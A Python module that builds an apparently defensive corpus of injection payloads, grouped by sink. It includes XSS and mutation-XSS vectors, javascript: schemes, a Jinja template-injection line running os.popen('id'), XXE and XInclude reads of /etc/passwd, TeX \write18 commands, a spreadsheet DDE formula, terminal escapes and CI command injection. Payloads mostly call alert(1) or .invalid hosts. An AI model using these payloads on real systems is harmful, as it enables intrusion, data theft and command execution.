r"""Words that would do harm where a page, a feed, a report or a terminal took them for more than words.

They come in families, most of them a few ways to do harm times the ways to write or to nest these. What one does, if
anything does, a browser notices: it calls ``alert(1)``, or asks a host that ends in ``.invalid`` for something. Each
family names the ``sink``, the careless page in which it does so; "text" are those whose harm is elsewhere.
"""

from __future__ import annotations

from dataclasses import dataclass
from html import escape
from itertools import product
from typing import TYPE_CHECKING, Final, Literal
from urllib.parse import quote

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

Sink = Literal["html", "attribute", "address", "markdown", "template", "script", "text"]


@dataclass(frozen=True, slots=True)
class Family:
    """Payloads of one kind, and where one of them does harm."""

    name: str
    sink: Sink
    payloads: tuple[str, ...]


HANDLER: Final = "<img src=x onerror=alert(1)>"
SCRIPT: Final = "<script>alert(1)</script>"
SVG: Final = "<svg/onload=alert(1)>"
LINK: Final = "[words](javascript:alert(1))"
IMAGE: Final = "![words](https://image.invalid/x.png)"


def _script_tags() -> Iterator[str]:
    yield from (
        SCRIPT,
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script\n>alert(1)</script\n>",
        "<script/x>alert(1)</script/x>",
        "<script\t>alert(1)</script >",
        "<script src=//script.invalid/x.js></script>",
        "<script src='https://script.invalid/x.js' async></script>",
        "<script type=module>alert(1)</script>",
        "<script type=module src=//script.invalid/x.mjs></script>",
        "<script type=importmap>{}</script><script>alert(1)</script>",
        "<script src='data:text/javascript,alert(1)'></script>",
        "<<script>alert(1)//<</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script>alert(1)",
        "<script>/*</p>*/alert(1)</script>",
        "</p></div></article></main><script>alert(1)</script>",
        "<script>onerror=alert;throw 1</script>",
        "<script>alert`1`</script>",
        "<noscript></noscript><script>alert(1)</script>",
        "<script>window['al'+'ert'](1)</script>",
        "<script>\\u0061lert(1)</script>",
    )


def _handlers() -> Iterator[str]:
    elements = (
        ("img", "src=x", "onerror"),
        ("svg", "", "onload"),
        ("video", "src=x", "onerror"),
        ("audio", "src=x", "onerror"),
        ("details", "open", "ontoggle"),
        ("input", "autofocus", "onfocus"),
        ("a", "href=# autofocus tabindex=0", "onfocus"),
        ("div", "autofocus contenteditable", "onfocus"),
        ("style", "", "onload"),
        ("iframe", "", "onload"),
        ("object", "data=x", "onerror"),
        ("button", "autofocus", "onfocus"),
    )
    for element, others, handler in elements:
        yield f"<{element} {others} {handler}=alert(1)>"
    for between in ("/", "\t", "\n", "//", "\f".encode("unicode_escape").decode(), "/x/"):
        yield f"<img{between}src=x{between}onerror=alert(1)>"
    for value in ('"alert(1)"', "'alert(1)'", "`alert(1)`", "&#97;lert(1)", "&#x61lert(1)", "alert&lpar;1&rpar;"):
        yield f"<img src=x onerror={value}>"
    yield from (
        "<IMG SRC=x OnErRoR=alert(1)>",
        "<image src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)//",
        "<img src=x onerror=alert(1) ",
        "<div style='position:fixed;inset:0' onmouseover=alert(1) onclick=alert(1)>words</div>",
        "<b onpointerenter=alert(1) onclick=alert(1)>words</b>",
        "<x id=x tabindex=1 onfocus=alert(1) autofocus>words</x>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<body onload=alert(1)>",
        "<marquee onstart=alert(1)>words</marquee>",
    )


def _foreign_elements() -> Iterator[str]:
    yield from (
        SVG,
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:text/javascript,alert(1) /></svg>",
        "<svg><script xlink:href=//svg.invalid/x.js></script></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text y=20>words</text></a></svg>",
        "<svg><set attributeName=href to=javascript:alert(1)></svg>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        "<svg><image href=//svg.invalid/x.png /></svg>",
        "<svg><use href=//svg.invalid/x.svg#x /></svg>",
        "<svg><style>@import url(//svg.invalid/x.css);</style></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "<svg><title><img src=x onerror=alert(1)></title></svg>",
        "<svg><desc><svg onload=alert(1)></desc></svg>",
        "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
        "<math href=javascript:alert(1)>words</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>words</maction></math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    )


def _mutations() -> Iterator[str]:
    """What one parser takes for harmless, and another, or the same one a second time, does not."""
    yield from (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=alert(1)>">',
        '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
        '<table><td><svg><desc><td><title><a id="</title><img src=x onerror=alert(1)>">',
        '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing><img src=x onerror=alert(1)>",
        "<b <script>alert(1)</script>0<img src=x onerror=alert(1)>",
        '<p/title="<!--"><img src=x onerror=alert(1)>-->',
        '<a href="x`><img src=x onerror=alert(1)>"><img src=`x` onerror=alert(1)>',
        "<template shadowrootmode=open><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>",
        '<img src="x` `<script>alert(1)</script>"` `><img src=x onerror=alert(1)>',
        "<%<!--'%><script>alert(1);</script -->",
    )


def _breakouts() -> Iterator[str]:
    closings = (
        "</textarea>",
        "</title>",
        "</noscript>",
        "</template>",
        "</style>",
        "</script>",
        "</xmp>",
        "</iframe>",
        "</noembed>",
        "</noframes>",
        "</select>",
        "</option>",
        "</button>",
        "-->",
        "--!>",
        "<!-->",
        "]]>",
        "?>",
        "%>",
        "</code></pre>",
        "</td></tr></table>",
        "</summary></details>",
        "</svg>",
        "</math>",
        "</q></blockquote>",
        "</h1></header>",
        "</a>",
        "</li></ul></nav>",
        "</body></html>",
    )
    return (f"{closing}{HANDLER}" for closing in closings)


def _attributes() -> Iterator[str]:
    quotes = ('"', "'", "`", '">', "'>", "&quot;", "&#39;", '\\"', '"/', "' x=\"'")
    handlers = ("autofocus tabindex=0 onfocus=alert(1)", "onmouseover=alert(1) onclick=alert(1) style=position:fixed")
    for mark, handler in product(quotes, handlers):
        yield f"words{mark} {handler} x={mark}"
    yield "x onfocus=alert(1) autofocus tabindex=0"
    yield "x\tonfocus=alert(1)\tautofocus\ttabindex=0"


def _schemes() -> Iterator[str]:
    """``javascript:`` as browsers take it and as others may not."""
    numbered = "".join(f"&#{ord(each)};" for each in "javascript:")
    hexadecimal = "".join(f"&#x{ord(each):X}" for each in "javascript:")
    padded = "".join(f"&#{ord(each):07}" for each in "javascript:")
    yield from (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "javascript:alert(1)//https://example.org",
        "javascript://example.org/%0aalert(1)",
        "javascript&colon;alert(1)",
        "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "&#1;javascript:alert(1)",
        "&#x20;javascript:alert(1)",
        " javascript:alert(1)",
        "\u00a0javascript:alert(1)",
        "javascript\u200b:alert(1)",
        "ｊａｖａｓｃｒｉｐｔ:alert(1)",
        "javascript：alert(1)",
        "javascript%3Aalert(1)",
        "javascript\\:alert(1)",
        "\\javascript:alert(1)",
        f"{numbered}alert(1)",
        f"{hexadecimal}alert(1)",
        f"{padded}alert(1)",
        "vbscript:msgbox(1)",
        "livescript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "DATA:text/html,x",
        "blob:https://example.org/0",
        "view-source:javascript:alert(1)",
        "feed:javascript:alert(1)",
        "jar:https://example.org!/",
        "about:blank",
        "file:///etc/passwd",
        "intent://example.org#Intent;scheme=javascript;end",
        "mailto:a@example.org?subject=x&attach=/etc/passwd",
        "tel:+1",
        "ws://socket.invalid/",
        "ftp://files.invalid/x",
    )


def _scheme_links() -> Iterator[str]:
    """The same as Markdown would link to it, and as HTML."""
    ways = ("[words]({0})", "[words](<{0}>)", "<{0}>", "[words][here]\n\n[here]: {0}", "![words]({0})")
    few = (
        "javascript:alert(1)",
        "JAVASCRIPT&colon;alert(1)",
        "java&#115;cript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
    )
    yield from (way.format(scheme) for way, scheme in product(ways, few))
    yield from (
        "[words](\\javascript:alert(1))",
        "[words](javascript&#58;alert&#40;1&#41;)",
        "[words](\u0001javascript:alert(1))",
        '[words](https://example.org "onmouseover=alert(1) x=")',
        "<a href=javascript:alert(1)>words</a>",
        "<a href='java\tscript:alert(1)'>words</a>",
        "<a href=&#106;avascript:alert(1)>words</a>",
        "<area href=javascript:alert(1)>",
        "<form action=javascript:alert(1)><button>words</button></form>",
        "<button formaction=javascript:alert(1) form=x>words</button>",
    )


def _hosts() -> Iterator[str]:
    """Addresses that lead elsewhere than they look."""
    addresses = (
        "//host.invalid/x",
        "/\\host.invalid/x",
        "\\\\host.invalid\\x",
        "https:host.invalid/x",
        "https:/host.invalid",
        "https:///host.invalid/x",
        "https://example.org@host.invalid/",
        "https://user:password@host.invalid/",
        "https://example.org%40host.invalid/",
        "https://host.invalid:99999/",
        "https://host.invalid:x/",
        "https://host.invalid:80:80/",
        "https://[::1",
        "https://[host.invalid]/",
        "https://0x7f.1/",
        "https://example.org\\@host.invalid/",
        "https://example.org#@host.invalid/",
        "https://example。org/",
        "https://example.org／@host.invalid/",
        "https://host.invalid\u200b/",
        "https://",
        "http:x",
    )
    yield from addresses
    yield from (f"[https://example.org]({address})" for address in addresses[:8])


HOMOGRAPHS: Final = (
    "https://аpple.com/",  # the first letter is Cyrillic
    "https://аррӏе.com/",  # all letters are
    "https://gοοgle.com/",  # Greek
    "https://раураl.com/",
    "https://example.org․host.invalid/",  # one dot leader
    "https://exаmple.org/",
    "https://bücher.example/",
    "https://ѕсоре.example/",
    "https://例え.example/",
    "https://faß.example/",
    "https://ɢoogle.example/",
    "https://xn--80ak6aa92e.com/",
    "https://www.ex\u0430mple.org:8443/path?x=y#z",
    "https://א.example/",
    "https://пример.рф/",
)


def _homographs() -> Iterator[str]:
    yield from HOMOGRAPHS
    yield from (f"[words]({address})" for address in HOMOGRAPHS[:5])
    yield f"see {HOMOGRAPHS[0]} there"


def _styles() -> Iterator[str]:
    yield from (
        "<style>@import url(//style.invalid/x.css);</style>",
        "<style>body{background:url(//style.invalid/x.png)}</style>",
        "<div style='background:url(//style.invalid/x.png);height:9px'>words</div>",
        "<link rel=stylesheet href=//style.invalid/x.css>",
        "</style><style>*{background:url(//style.invalid/x.png)}",
        "<p style=\"width:expression(alert(1));background-image:url('//style.invalid/x')\">words</p>",
        "<style>@font-face{font-family:x;src:url(//style.invalid/x.woff)}*{font-family:x}</style>",
        "x;}*{background:url(//style.invalid/x.png)}",
        "<svg><rect style='fill:url(//style.invalid/x.svg#x)' width=9 height=9 /></svg>",
        "<div style=behavior:url(//style.invalid/x.htc)>words</div>",
        "<table background=//style.invalid/x.png><tr><td>words</table>",
        "<body background=//style.invalid/x.png>",
    )


def _frames_and_forms() -> Iterator[str]:
    yield from (
        "<iframe src=//frame.invalid/></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<embed src=//frame.invalid/x>",
        "<object data=//frame.invalid/x></object>",
        "<frameset><frame src=//frame.invalid/x></frameset>",
        "<portal src=//frame.invalid/x></portal>",
        "<base href=//base.invalid/>",
        "<meta http-equiv=refresh content='0;url=//meta.invalid/'>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
        "<link rel=prefetch href=//link.invalid/x>",
        "<link rel=preconnect href=//link.invalid/>",
        "<link rel=icon href=//link.invalid/x.ico>",
        "<link rel=manifest href=//link.invalid/x.json>",
        "<form action=//form.invalid/><input name=q><button>words</button></form>",
        "<form id=x></form><button form=x formaction=//form.invalid/>words</button>",
        "<input type=image src=//form.invalid/x.png>",
        "<a href=https://ping.invalid/ ping=//ping.invalid/x>words</a>",
        "<img src=//image.invalid/x.png>",
        "<img srcset='//image.invalid/x.png 1x'>",
        "<picture><source srcset=//image.invalid/x.png><img></picture>",
        "<video poster=//image.invalid/x.png></video>",
        "<audio src=//image.invalid/x.mp3 autoplay></audio>",
        "<track src=//image.invalid/x.vtt>",
        "<dialog open>words</dialog><iframe src=//frame.invalid/></iframe>",
    )


def _templates() -> Iterator[str]:
    run = "'<img src=x onerror=alert(1)>'"
    yield from (
        f"{{{{ {run} | safe }}}}",
        f"{{% set x = {run} %}}{{{{ x | safe }}}}",
        f"{{% raw %}}{{% endraw %}}{{{{ {run} | safe }}}}",
        f"{{# #}}{{{{ {run} | safe }}}}",
        f"{{{{ ({run} * 2) | safe }}}}",
        f"{{% for x in [1] %}}{{{{ {run} | safe }}}}{{% endfor %}}",
        f"{{% if true %}}{{{{ {run} | safe }}}}{{% endif %}}",
        f"{{% autoescape false %}}{{{{ {run} }}}}{{% endautoescape %}}",
        f"{{{{ 7 * 7 }}}}{{{{ {run} | safe }}}}",
        f"{{%- macro m() -%}}{{{{ {run} | safe }}}}{{%- endmacro -%}}{{{{ m() }}}}",
        "{{ config }}<img src=x onerror=alert(1)>",
        "{{ ''.__class__ }}<img src=x onerror=alert(1)>",
    )


def _other_templates() -> Iterator[str]:
    yield from (
        "{% raw %}",
        "{% include 'mkdocs.yml' %}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        '--8<-- "mkdocs.yml"',
        ";--8<--",
        "::: os",
        "[TOC]",
        "[[_TOC_]]",
        "{: onclick=alert(1) }",
        "{ #_comments onclick=alert(1) }",
        "words{: .debate-claim #_summary }",
        "!!! note",
        "??? details",
        '=== "tab"',
        "$include{mkdocs.yml}",
        "{!mkdocs.yml!}",
        "<!-- more -->",
        ":fontawesome-solid-skull:",
        "++ctrl++",
        "{++x++}",
        "${alert(1)}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{constructor.constructor('alert(1)')()}}",
        "*[words]: others",
        "---\ntitle: others\n---",
        "%s %d %n {0} {x!r} %(x)s",
    )


def _markdown() -> Iterator[str]:
    yield from (
        f"{IMAGE}",
        f"[{IMAGE}](https://example.org)",
        f"[words][x]\n\n[x]: javascript:alert(1) '{HANDLER}'",
        f"[^1]\n\n[^1]: {HANDLER}",
        f"| a |\n|---|\n| {HANDLER} |",
        f"# {HANDLER}",
        f"> {HANDLER}",
        f"- {HANDLER}",
        f"1. {HANDLER}",
        f"<div>\n\n{HANDLER}\n\n</div>",
        f"**{HANDLER}**",
        f"~~{HANDLER}~~",
        f"[{HANDLER}](https://example.org)",
        f"<!-- -->{HANDLER}",
        f"<?x?>{HANDLER}",
        f"<![CDATA[x]]>{HANDLER}",
        f"words\\\n{HANDLER}",
    )


def _markdown_in_order() -> Iterator[str]:
    """Markdown that a sound renderer takes apart as well."""
    yield from (
        f"`` ` {HANDLER} ``",
        f"```{HANDLER}\n{HANDLER}\n```",
        f"```html\n{HANDLER}\n```",
        f"    {HANDLER}",
        f"~~~js onload=alert(1)\n{SCRIPT}\n~~~",
        f"[words](https://example.org '\"{HANDLER}')",
        '[words](https://example.org/"onmouseover=alert(1))',
        f"[words](<https://example.org/{HANDLER}>)",
        f"[{LINK}](https://example.org)",
        f'https://example.org/"{HANDLER}',
        '<https://example.org/?"onclick=alert(1)>',
        '![words"onerror=alert(1) x="](x.png)',
        f"![{HANDLER}](x.svg)",
        f"[^{HANDLER}]\n\n[^{HANDLER}]: words",
        f"[{HANDLER}]: https://example.org\n\n[{HANDLER}]",
        f'| {HANDLER} |\n|:-"onclick=alert(1)-:|\n| b |',
        f"999999999. {HANDLER}",
        '[words](claim:"onclick=alert(1))',
        "[](crux:<img>)",
        "[words](claim:../../x)",
        '<claim:x"onclick=alert(1)>',
        "![words](../../etc/passwd.png)",
        "![words](x.svg#javascript:alert(1))",
    )


def _formulas() -> Iterator[str]:
    insides = (
        r"\href{javascript:alert(1)}{x}",
        r"\url{javascript:alert(1)}",
        r"\html{<img src=x onerror=alert(1)>}",
        r"\htmlClass{x}{y}",
        r"\htmlStyle{color:red}{x}",
        r"\htmlData{onclick=alert(1)}{x}",
        r"\htmlId{x}{y}",
        r"\class{x}{y}",
        r"\style{background:url(//tex.invalid/x)}{x}",
        r"\cssId{x}{y}",
        r"\includegraphics{//tex.invalid/x.png}",
        r"\input{/etc/passwd}",
        r"\unicode{x3c}",
        r"\text{" + HANDLER + "}",
        r"\mathrm{</math>" + HANDLER + "}",
        r"\color{red\" onclick=\"alert(1)}{x}",
        r"\begin{array}{\"onclick=x}a\end{array}",
        r"\def\x{\x\x}\x",
        r"\require{x}",
        HANDLER,
        "</math>" + SCRIPT,
        "&lt;img src=x onerror=alert(1)&gt;",
        r"\hspace{1em\" onclick=\"alert(1)}",
        r"\operatorname{<script>alert(1)</script>}",
        r"\tag{" + SVG + "}",
    )
    yield from (f"${inside}$" for inside in insides)
    yield f"$${HANDLER}$$"


def _clobbering() -> Iterator[str]:
    names = (
        "__config",
        "__search",
        "location",
        "document",
        "getElementById",
        "body",
        "cookie",
        "module",
        "define",
        "currentScript",
        "documentElement",
        "attributes",
        "parentNode",
    )
    yield from (f"<a id={name} name={name}></a><form id={name}><input name={name}></form>" for name in names)


def _prototypes() -> Iterator[str]:
    return (
        each
        for each in (
            "__proto__",
            "constructor",
            "prototype",
            "hasOwnProperty",
            "toString",
            "valueOf",
            "__defineGetter__",
            "null",
            "undefined",
            "NaN",
            "[object Object]",
        )
    )


def _scripts() -> Iterator[str]:
    yield from (
        f"</script>{SCRIPT}",
        f"</ScRiPt >{SCRIPT}",
        f"<!--<script>{SCRIPT}",
        f'"}}</script>{SCRIPT}',
        f"'</script>{SCRIPT}",
        '";alert(1);//',
        "';alert(1);//",
        '\\";alert(1);//</script>' + SCRIPT,
        f'"}}]}}</script>{HANDLER}',
        f'{{"@type":"x"}}</script>{HANDLER}',
        "\\u003c/script\\u003e\\u003cimg src=x onerror=alert(1)\\u003e",
        "\\x3c/script\\x3e\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        f"${{alert(1)}}</script>{HANDLER}",
        f"`</script>{HANDLER}",
        f"\\</script>{HANDLER}",
        "]]></script>" + HANDLER,
    )


def _xml() -> Iterator[str]:
    yield from (
        "]]>",
        "]]&gt;",
        "<![CDATA[x]]>",
        "</content><entry><title>others</title></entry>",
        "</title><link href='x'/>",
        "<?xml version='1.0'?>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
        "&y;",
        "&#0;",
        "&#xFFFF;",
        "<xi:include href='file:///etc/passwd' xmlns:xi='http://www.w3.org/2001/XInclude'/>",
        "</svg><svg onload=alert(1)>",
        "</data></node><node id='others'/>",
        "&lt;img src=x onerror=alert(1)&gt;",
    )


def _terminal() -> Iterator[str]:
    yield from (
        "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "\x1b[2J\x1b[H",
        "\x1b]8;;https://host.invalid\x1b\\words\x1b]8;;\x1b\\",
        "\x9b31m",
        "words\rothers",
        "words\bothers",
        "\x07",
        "\x1bP+q544e\x1b\\",
        "\x1b]52;c;eA==\x07",
        "words\x00others",
        "words\x0bothers",
        "\x7f",
        "\x85next",
        "\u2028line",
        "\\x1b[31m",
        "\ufffe",
    )


def _commands() -> Iterator[str]:
    yield from (
        "::error::words",
        "::warning file=x,line=1::words",
        "words\n::error::others",
        "::set-output name=x::y",
        "::add-mask::x",
        "::stop-commands::x",
        "##[error]words",
        "##vso[task.setvariable variable=x]y",
        "%0A::error::words",
        "words%0D%0A::error::others",
        ":: error ::",
        "##teamcity[message text='x']",
        "section_start:1:x[collapsed=true]",
        "error: x.yaml:1:1: words",
    )


def _cells() -> Iterator[str]:
    yield from (
        "=1+1",
        '=HYPERLINK("//cell.invalid","words")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        '"=1+1',
        "';=1+1",
        "x,=1+1",
        'x";=1+1',
        "%0A=1+1",
        "＝1+1",
        "−1+1",
        "|x",
    )


def _tex() -> Iterator[str]:
    yield from (
        "},\n  note = {others",
        "}}@book{x, title={y}",
        "\\input{/etc/passwd}",
        "\\write18{id}",
        "\\immediate\\write18{id}",
        "{",
        "}",
        "%",
        "#1 & ~ ^ _ $ \\",
        "\\\\",
        "@comment{x}",
        "\\end{document}",
        '"#"',
        "x\\",
        "\\csname x\\endcsname",
        "{\\catcode`\\@=11}",
        "TY  - JOUR\nTI  - others\nER  - ",
        "ER  -",
    )


def _inventory() -> Iterator[str]:
    yield from (
        "words std:label -1 others/# -",
        "words\nothers std:label -1 x -",
        "$",
        "x py:module 1 y z",
        "# Sphinx inventory",
        "-1",
        "words std:label",
        "  std:label -1 $ ",
    )


def _mentions() -> Iterator[str]:
    yield from (
        "@everyone",
        "@org/team please look",
        "#1",
        "GH-1",
        "org/project#1",
        "closes #1",
        "0123456789abcdef0123456789abcdef",
        "www.host.invalid",
        "https://host.invalid/x",
        "mailto:a@host.invalid",
        "a@host.invalid",
        "- [x] done",
        "```suggestion",
        ":rocket:",
        "/merge",
        "<details><summary>x</summary>",
        "> [!WARNING]",
        "</details>",
        "| a | b |\n|---|---|",
        "Co-authored-by: x <a@host.invalid>",
        "!include x",
        "xmpp:a@host.invalid",
    )


def _hidden() -> Iterator[str]:
    characters = (
        0x202A,
        0x202B,
        0x202C,
        0x202D,
        0x202E,
        0x2066,
        0x2067,
        0x2069,
        0x200B,
        0x200E,
        0x200F,
        0x2060,
        0xFEFF,
        0xAD,
        0x34F,
        0x180E,
        0xFFF9,
        0xE0041,
        0xFE0F,
    )
    yield from (f"words {chr(each)}sdrow" for each in characters)
    yield from ("words &#x202E;sdrow", "words &rlm;sdrow", "words &shy;&zwnj;&ZeroWidthSpace;others")
    yield "Z" + "\u0335\u0321\u0489" * 40
    yield from ("\U0001f600", "\ud7ff\ue000", "\U0010ffff", "ﷺ" * 9, "İıſK")


def _nested() -> Iterator[str]:
    """The plainest payloads in other writings, and inside the markup of Markdown."""
    writings = (
        escape,
        lambda text: escape(escape(text)),
        lambda text: "".join(f"&#{ord(each)};" for each in text),
        lambda text: "".join(f"&#x{ord(each):x}" if not each.isalnum() else each for each in text),
        lambda text: quote(text, safe=""),
        lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
        lambda text: text.replace("<", "＜").replace(">", "＞"),
        lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
        lambda text: text.replace("<", "&lt").replace(">", "&gt"),
        lambda text: text.replace("<", "\\<").replace(">", "\\>"),
        lambda text: f"<mark>{text}</mark>",
        lambda text: f"<p><b><i>{text}",
        lambda text: "<" + text,
        lambda text: f"words&#10;{text}",
    )
    yield from (
        writing(payload)
        for writing, payload in product(writings, (HANDLER, SCRIPT, SVG, "<a href=javascript:alert(1)>words</a>"))
    )


def _family(name: str, sink: Sink, payloads: Iterable[str]) -> Family:
    return Family(name, sink, tuple(dict.fromkeys(payloads)))


FAMILIES: Final = (
    _family("script tags", "html", _script_tags()),
    _family("event handlers", "html", _handlers()),
    _family("SVG and MathML", "html", _foreign_elements()),
    _family("mutations", "html", _mutations()),
    _family("breakouts of elements", "html", _breakouts()),
    _family("breakouts of attributes", "attribute", _attributes()),
    _family("schemes", "address", _schemes()),
    _family("links with schemes", "markdown", _scheme_links()),
    _family("hosts", "address", _hosts()),
    _family("look-alike hosts", "text", _homographs()),
    _family("styles", "html", _styles()),
    _family("frames, forms and heads", "html", _frames_and_forms()),
    _family("templates", "template", _templates()),
    _family("other templates", "text", _other_templates()),
    _family("HTML in Markdown", "markdown", _markdown()),
    _family("Markdown", "text", _markdown_in_order()),
    _family("formulas", "html", _formulas()),
    _family("names on the page", "text", _clobbering()),
    _family("names of objects", "text", _prototypes()),
    _family("breakouts of scripts", "script", _scripts()),
    _family("XML", "html", _xml()),
    _family("terminal escapes", "text", _terminal()),
    _family("commands to a runner", "text", _commands()),
    _family("formulas of tables", "text", _cells()),
    _family("TeX and citations", "text", _tex()),
    _family("inventories", "text", _inventory()),
    _family("mentions", "text", _mentions()),
    _family("hidden characters", "text", _hidden()),
    _family("other writings", "html", _nested()),
)

PAYLOADS: Final = tuple(dict.fromkeys(payload for family in FAMILIES for payload in family.payloads))
"""All of them, each once."""
